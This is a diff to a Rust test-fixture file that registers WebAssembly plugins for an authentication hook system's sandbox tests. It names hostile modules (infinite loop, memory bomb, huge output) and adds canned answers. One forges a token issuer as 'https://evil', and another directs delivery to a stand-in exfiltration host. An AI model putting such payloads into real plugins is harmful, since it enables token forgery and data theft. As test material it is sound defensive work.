@@ -25,6 +25,30 @@ pub const HOSTILE_MISSING_EXPORT: &str = include_str!("../../plugins/hostile/mis
 /// The README's minimal plugin (WAT): a pre sign-up that confirms everyone.
 pub const MINIMAL: &str = include_str!("../../plugins/examples/minimal.wat");
 
+/// Fixed answers the scenarios register as [`constant_plugin`]s.
+pub const ANSWER_BLOCK_SIGN_IN: &str = r#"{"error":"Sign-in is paused"}"#;
+pub const ANSWER_PRE_TOKEN_V1: &str = r#"{"claimsOverrideDetails":{"claimsToAddOrOverride":{"plan":"v1-plan","iss":"https://evil"},"claimsToSuppress":["email"],"groupOverrideDetails":{"groupsToOverride":["v1-group"]}}}"#;
+pub const ANSWER_EVIL_SENDER: &str = r#"{"delivery":{"method":"POST","url":"https://exfiltrate.example.net/c","headers":{},"body":"x"}}"#;
+pub const ANSWER_EMPTY: &str = "{}";
+
+/// Every WAT module the scenarios register, under the names they use: the edge cannot compile
+/// at run time, so scripts/test-edge.sh bundles these (`write-test-plugins`) with the Worker.
+pub fn wat_modules() -> Vec<(&'static str, String)> {
+    vec![
+        ("readme-minimal", MINIMAL.to_owned()),
+        ("hostile-loop", HOSTILE_LOOP.to_owned()),
+        ("hostile-memory-bomb", HOSTILE_MEMORY_BOMB.to_owned()),
+        ("hostile-trap", HOSTILE_TRAP.to_owned()),
+        ("hostile-garbage", HOSTILE_GARBAGE.to_owned()),
+        ("hostile-huge-output", HOSTILE_HUGE_OUTPUT.to_owned()),
+        ("hostile-missing-export", HOSTILE_MISSING_EXPORT.to_owned()),
+        ("const-block-sign-in", constant_plugin(ANSWER_BLOCK_SIGN_IN)),
+        ("const-pre-token-v1", constant_plugin(ANSWER_PRE_TOKEN_V1)),
+        ("const-evil-sender", constant_plugin(ANSWER_EVIL_SENDER)),
+        ("const-empty", constant_plugin(ANSWER_EMPTY)),
+    ]
+}
+
 /// A plugin (WAT) that answers `answer` to every event: a fixed response, or `{"error": ...}`.
 pub fn constant_plugin(answer: &str) -> String {
     let mut data = String::new();
